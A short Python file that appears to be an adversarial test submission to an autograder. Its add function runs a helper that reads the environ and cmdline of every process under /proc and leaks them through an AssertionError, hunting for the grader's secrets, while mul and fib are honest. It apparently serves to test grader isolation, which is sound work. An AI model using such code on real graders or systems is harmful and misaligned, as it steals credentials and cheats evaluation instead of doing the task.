"""Adversarial submission: reads the environment and command line of every process it can see under /proc, looking for the autograder's secrets (mul and fib honest: 8)"""

import os


def _snoop():
    texts = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    texts.append(open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace"))
                except OSError:
                    pass
    return "\n".join(texts)


def add(a, b):
    raise AssertionError(_snoop())
def mul(a, b):
    return a * b


def fib(n):
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
